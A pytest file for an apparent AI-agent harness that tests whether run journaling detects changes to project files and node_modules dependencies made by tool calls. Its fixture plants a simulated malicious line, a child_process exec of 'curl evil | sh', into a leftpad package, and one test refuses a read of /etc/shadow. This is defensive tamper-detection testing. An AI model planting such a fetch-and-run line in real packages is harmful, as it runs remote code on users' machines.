"""The closing snapshot's walk of the project and its dependency listings, taken ahead while
nothing of the agent's runs (`RunJournal` with the run's `ToolActivity`): used only when no
tool call was let through since they were taken, and never in place of a change a call
made."""

from __future__ import annotations

import os
import threading
import time
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from wizard import listings
from wizard.journal import Journal, Listed
from wizard.journal import store as store_module
from wizard.journal.store import GitStore
from wizard.listings import ListingStopped
from wizard.runner import journaling
from wizard.runner.harness.activity import SessionCalls, ToolActivity
from wizard.runner.harness.gate import ToolGate
from wizard.runner.journaling import RunJournal, _Ahead
from wizard.tools.fence import Fence

PAYLOAD = "require('child_process').exec('curl evil | sh');\n"
LEFTPAD = "node_modules/leftpad/index.js"


@pytest.fixture
def project(tmp_path: Path) -> Path:
    project = tmp_path / "app"
    (project / "node_modules" / "leftpad").mkdir(parents=True)
    (project / LEFTPAD).write_text("module.exports = (s) => s;\n")
    (project / "index.js").write_text("require('leftpad');\n")
    return project


def _opened(tmp_path: Path, project: Path) -> tuple[RunJournal, SessionCalls]:
    """A run journaled with a `ToolActivity`, and one session's part of it."""
    journal = Journal(project, tmp_path / "state")
    record = journal.begin("r1", "prog")  # as `RunJournal.open` does
    run = RunJournal(lambda event: None, journal, record, _first=journal.store.last_walk)
    activity = ToolActivity()
    run.watch(activity)
    return run, activity.session()


def _listed_after_a_call(tmp_path: Path, project: Path) -> tuple[RunJournal, SessionCalls]:
    """A run whose first call ended and whose listings were then taken (mark 1)."""
    run, activity = _opened(tmp_path, project)
    _call(activity, "a")
    assert run._ahead is not None and run._ahead.taken(1) is not None
    return run, activity


def _plant(project: Path) -> None:
    with (project / LEFTPAD).open("a") as handle:
        handle.write(PAYLOAD)


def _call(calls: SessionCalls, call_id: str, project: Path | None = None) -> None:
    """A tool call let through (planting the payload, given the project), then its end."""
    calls.judged(call_id, True)
    if project is not None:
        _plant(project)
    calls({"type": "tool_end", "id": call_id})


def _no_listing(*_: object) -> str:
    raise AssertionError("a dependency folder was listed at the close")


def _hashed_at_the_close(monkeypatch: pytest.MonkeyPatch) -> list[str]:
    """The paths the close hashes from now on (it lists no dependency folder)."""
    hashed: list[str] = []
    own = GitStore._store

    def store(self: GitStore, root: Path, entry: Any, blobs: Any) -> str:
        hashed.append(entry.path)
        return own(self, root, entry, blobs)

    monkeypatch.setattr(GitStore, "_store", store)
    monkeypatch.setattr(GitStore, "_fingerprint", _no_listing)
    return hashed


def test_a_run_that_let_no_call_through_closes_on_its_first_walk_and_its_skill(
    tmp_path: Path, project: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Nothing of the agent's ran: the first snapshot's walk is the closing one, but for the
    skill wizard installed since, walked again."""
    run, activity = _opened(tmp_path, project)
    skill = project / ".claude" / "skills" / "prog" / "SKILL.md"
    skill.parent.mkdir(parents=True)
    skill.write_text("the program's skill\n")
    hashed = _hashed_at_the_close(monkeypatch)
    activity.run.ending()  # a marker before any call: nothing is walked again, then or later
    assert run._ahead is None
    record = run.finish("aborted")
    assert record is not None and record.heavy_after == record.heavy_before
    assert record.dependency_changes == {} and record.changed == [".claude/skills/prog/SKILL.md"]
    assert hashed == [".claude/skills/prog/SKILL.md"]


def test_a_walk_taken_once_the_last_call_ended_is_the_closing_one(
    tmp_path: Path, project: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The call's changes are in it; the next command's sandbox's placeholder, standing
    while it was taken and gone by the close, is not; the close hashes nothing again."""
    run, activity = _opened(tmp_path, project)
    (project / ".husky").write_text("")  # a placeholder of the sandbox made for the next call
    activity.judged("a", True)
    (project / "index.js").write_text("require('leftpad')('edited');\n")
    _plant(project)
    activity({"type": "tool_end", "id": "a"})  # walked again in the thread
    assert run._ahead is not None and run._ahead.taken(1) is not None
    (project / ".husky").unlink()  # the sandbox thrown away at the close
    hashed = _hashed_at_the_close(monkeypatch)
    record = run.finish("aborted")
    assert record is not None and record.dependency_changes == {LEFTPAD: "changed"}
    assert record.changed == ["index.js"] and hashed == []


def test_a_run_ending_takes_its_closing_listings_at_once_at_its_own_priority(
    tmp_path: Path, project: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Once the run is ending (a marker latched), the listings after its last call are taken
    without the pause, in a thread at the run's priority: the close waits for them while the
    engine tears down, and a starved low-priority thread would hold it up."""
    monkeypatch.setattr(journaling, "_PAUSE", 60.0)
    takers: list[tuple[int, int]] = []
    own = GitStore.heavy_listings

    def heavy_listings(store: GitStore, stop: Callable[[], bool] = lambda: False) -> Listed:
        takers.append((threading.get_native_id(), os.getpriority(os.PRIO_PROCESS, 0)))
        return own(store, stop)

    monkeypatch.setattr(GitStore, "heavy_listings", heavy_listings)
    run, activity = _opened(tmp_path, project)
    _call(activity, "a", project)
    assert takers == []  # in its pause
    activity.run.ending()
    assert run._ahead is not None and run._ahead.taken(1) is not None
    ((taker, nice),) = takers
    assert taker != threading.get_native_id() and nice == os.getpriority(os.PRIO_PROCESS, 0)
    monkeypatch.setattr(GitStore, "_fingerprint", _no_listing)
    record = run.finish("aborted")
    assert record is not None and record.dependency_changes == {LEFTPAD: "changed"}


def test_a_walk_ahead_keeps_the_run_s_priority_and_lists_gently(
    tmp_path: Path, project: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Its thread is never reniced (starved while it holds Python's lock, it would hold up
    the run's own threads); its `find` is (`listings.list_gently`)."""
    monkeypatch.setattr(journaling, "_PAUSE", 0.0)
    walkers: list[tuple[str, int, bool]] = []
    own = GitStore.walk

    def walk(store: GitStore, *args: Any, **kwargs: Any) -> Any:
        gently = getattr(listings._gentle, "on", False)
        walkers.append((threading.current_thread().name, os.getpriority(os.PRIO_PROCESS, 0),
                        gently))  # fmt: skip
        return own(store, *args, **kwargs)

    listers: list[bool] = []
    own_listings = GitStore.heavy_listings

    def heavy_listings(store: GitStore, stop: Callable[[], bool] = lambda: False) -> Listed:
        listers.append(getattr(listings._gentle, "on", False))
        return own_listings(store, stop)

    run, activity = _opened(tmp_path, project)
    monkeypatch.setattr(GitStore, "walk", walk)
    monkeypatch.setattr(GitStore, "heavy_listings", heavy_listings)
    _call(activity, "a", project)
    while not walkers:
        time.sleep(0.01)
    assert run._ahead is not None and run._ahead.taken(1) is not None
    assert walkers[0] == ("journal-ahead", os.getpriority(os.PRIO_PROCESS, 0), True)
    assert listers == [True]  # the listing beside the walk, as gently


def test_a_walk_ahead_lists_the_dependency_folders_while_it_walks_the_rest(
    tmp_path: Path, project: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The dependency folders' `find`s run beside the walk of the app's own files, not
    before it (at the close of a run whose model answers at once, the walk waits on them);
    the walk takes their listings once it is done, and a change to a dependency is still
    recorded."""
    monkeypatch.setattr(journaling, "_PAUSE", 60.0)
    walking = threading.Event()
    seen: list[bool] = []
    own_walk, own_listings = store_module.walk, GitStore.heavy_listings

    def walk(*args: Any, **kwargs: Any) -> Any:
        walking.set()
        return own_walk(*args, **kwargs)

    def heavy_listings(store: GitStore, stop: Callable[[], bool] = lambda: False) -> Listed:
        seen.append(walking.wait(5))
        return own_listings(store, stop)

    run, activity = _opened(tmp_path, project)
    monkeypatch.setattr(store_module, "walk", walk)
    monkeypatch.setattr(GitStore, "heavy_listings", heavy_listings)
    _call(activity, "a", project)
    activity.run.ending()
    assert run._ahead is not None and run._ahead.taken(1) is not None
    assert seen == [True]
    monkeypatch.setattr(GitStore, "_fingerprint", _no_listing)
    record = run.finish("aborted")
    assert record is not None and record.dependency_changes == {LEFTPAD: "changed"}


def test_a_listing_beside_raises_what_it_raised_to_the_one_who_waits() -> None:
    def stopped() -> Listed:
        raise ListingStopped("node_modules")

    result = listings.beside(stopped)
    with pytest.raises(ListingStopped):
        result()
    assert listings.beside(lambda: 7)() == 7


def test_a_call_let_through_after_the_listings_were_taken_is_never_missed(
    tmp_path: Path, project: Path
) -> None:
    run, activity = _listed_after_a_call(tmp_path, project)
    activity.run.on_quiet = lambda mark: None  # nothing is listed after this call
    _call(activity, "b", project)
    record = run.finish("aborted")
    assert record is not None and record.dependency_changes == {LEFTPAD: "changed"}


def test_a_call_still_running_at_the_close_gets_a_listing_taken_then(
    tmp_path: Path, project: Path
) -> None:
    run, activity = _listed_after_a_call(tmp_path, project)
    activity.judged("b", True)  # its engine was killed before it could say it ended
    _plant(project)
    record = run.finish("cancelled")
    assert record is not None and record.dependency_changes == {LEFTPAD: "changed"}


def test_checks_after_the_run_are_never_closed_on_listings_taken_ahead(
    tmp_path: Path, project: Path
) -> None:
    run, _ = _opened(tmp_path, project)
    record = run.finish("succeeded")
    _plant(project)  # a check's script, in the project after the run
    again, changed = run.after_checks(record, "succeeded")
    assert again is not None and again.dependency_changes == {LEFTPAD: "changed"}
    assert changed == [LEFTPAD]


def test_only_the_end_of_a_call_that_was_let_through_can_make_the_run_quiet() -> None:
    quiet: list[int] = []
    activity = ToolActivity(quiet.append)
    calls = activity.session()
    assert activity.mark() == 0
    calls.judged("running", True)
    calls.judged("blocked", False)
    calls({"type": "tool_end", "id": "blocked"})  # a call the fence refused
    assert activity.mark() is None and quiet == []
    calls({"type": "tool_end", "id": "running"})
    assert activity.mark() == 1 and quiet == [1]
    assert activity.still(1) and not activity.still(0)
    calls.judged(None, True)  # no id: its end could never be told apart
    calls({"type": "tool_end", "id": "None"})
    assert activity.mark() is None and not activity.still(1)


def test_another_sessions_call_of_the_same_id_never_ends_this_one() -> None:
    """A scripted or local model numbers its calls: two sessions both have a `call_0`."""
    activity = ToolActivity()
    seed, task = activity.session(), activity.session()
    seed.judged("call_0", True)
    task.judged("call_0", True)
    seed({"type": "tool_end", "id": "call_0"})
    assert activity.mark() is None  # the task's call_0 still runs
    task({"type": "tool_end", "id": "call_0"})
    assert activity.mark() == 2


@pytest.mark.parametrize("first_let_through", [True, False])
def test_an_id_judged_twice_in_a_session_leaves_the_run_never_quiet(
    first_let_through: bool,
) -> None:
    """A refused call whose id repeats a running one's would end it, by its event."""
    activity = ToolActivity()
    calls = activity.session()
    calls.judged("call_0", first_let_through)
    calls.judged("call_0", not first_let_through)
    calls({"type": "tool_end", "id": "call_0"})
    calls({"type": "tool_end", "id": "call_0"})
    assert activity.mark() is None


def test_the_gate_counts_the_calls_it_lets_run_and_no_other(tmp_path: Path) -> None:
    halted = False
    activity = ToolActivity()
    calls = activity.session()
    gate = ToolGate([], Fence(tmp_path), halted=lambda: halted, calls=calls)
    assert not gate.permit("read", {"path": "/etc/shadow"}, "outside").allow
    assert activity.mark() == 0
    assert gate.permit("read", {"path": "index.js"}, "inside").allow
    assert activity.mark() is None
    calls({"type": "tool_end", "id": "inside"})
    halted = True
    assert not gate.permit("read", {"path": "index.js"}, "late").allow
    assert activity.mark() == 1
    assert gate.serving().calls is calls


def test_listings_wait_a_pause_unless_the_close_takes_them_itself() -> None:
    started = threading.Event()
    takers: list[threading.Thread] = []

    def take(stop: Callable[[], bool]) -> Listed:
        started.set()
        takers.append(threading.current_thread())
        return {"node_modules": ("digest", {})}

    ahead = _Ahead(take)
    ahead.want(1)
    assert not started.wait(0.1)  # the engine's own work after a call goes first
    # The close cuts the pause, and takes them in its own thread (never the low-priority one).
    assert ahead.taken(1) == {"node_modules": ("digest", {})}
    assert takers == [threading.current_thread()]
    assert ahead.taken(2) is None  # never asked for
    time.sleep(0.5)  # past the pause: the thread took nothing more
    assert takers == [threading.current_thread()]


def test_a_close_waits_for_listings_the_thread_is_taking() -> None:
    release = threading.Event()
    takers: list[threading.Thread] = []

    def take(stop: Callable[[], bool]) -> Listed:
        takers.append(threading.current_thread())
        release.wait(5)
        return {"node_modules": ("digest", {})}

    ahead = _Ahead(take, pause=0)
    ahead.want(1)
    while not takers:
        time.sleep(0.01)
    threading.Timer(0.1, release.set).start()
    assert ahead.taken(1) == {"node_modules": ("digest", {})}
    assert takers[0] is not threading.current_thread() and len(takers) == 1


def test_a_run_ending_while_its_walk_is_taken_keeps_that_walk() -> None:
    """The run ends (its closing walk asked for at once) while the thread takes the walk for
    the same last call: that walk is the closing one, neither thrown away nor taken again
    (traced at 100,000 files: the close walked the project a third time, 0.6 s)."""
    release = threading.Event()
    takers: list[threading.Thread] = []

    def take(stop: Callable[[], bool]) -> Listed:
        takers.append(threading.current_thread())
        release.wait(5)
        if stop():
            raise ListingStopped("node_modules")
        return {"node_modules": ("digest", {})}

    ahead = _Ahead(take, pause=0)
    ahead.want(1)
    while not takers:
        time.sleep(0.01)
    ahead.want(1, at_once=True)
    threading.Timer(0.1, release.set).start()
    assert ahead.taken(1) == {"node_modules": ("digest", {})}
    assert len(takers) == 1
    ahead.want(1, at_once=True)  # taken already
    assert len(takers) == 1


def test_a_call_let_through_stops_the_listings_being_taken() -> None:
    started, gave_up = threading.Event(), threading.Event()

    def take(stop: Callable[[], bool]) -> Listed:
        started.set()
        while not stop():
            time.sleep(0.01)
        gave_up.set()
        raise ListingStopped("node_modules")

    busy: list[bool] = []
    calls = ToolActivity(on_busy=lambda: busy.append(True)).session()
    ahead = _Ahead(take, pause=0)
    ahead.want(0)
    assert started.wait(5)
    calls.judged("next", True)
    ahead.stop()
    assert gave_up.wait(5) and busy == [True]
    assert ahead.taken(0) is None


def test_a_run_is_said_to_be_ending_once() -> None:
    """Each conversation that ends the run says so; the closing listings are asked for once."""
    quiet: list[int] = []
    activity = ToolActivity(on_quiet=quiet.append)
    activity.ending()
    activity.ending()
    assert activity.closing and quiet == [0]
